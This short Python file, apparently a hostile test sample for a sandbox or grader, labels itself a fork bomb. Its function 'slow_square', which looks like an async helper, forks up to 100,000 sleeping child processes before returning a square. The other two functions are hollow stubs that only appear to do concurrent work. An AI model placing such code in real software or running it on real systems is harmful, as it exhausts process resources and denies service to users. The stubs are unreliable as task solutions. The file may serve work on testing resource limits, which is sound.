"""HOSTILE: a fork bomb (each child sleeps, so it would pile up forever without a limit)."""
import os
import time


async def slow_square(x, delay):
    for _ in range(100_000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    return x * x


async def squares_concurrently(xs, delay):
    return [x * x for x in xs]


async def gather_settled(factories):
    return []
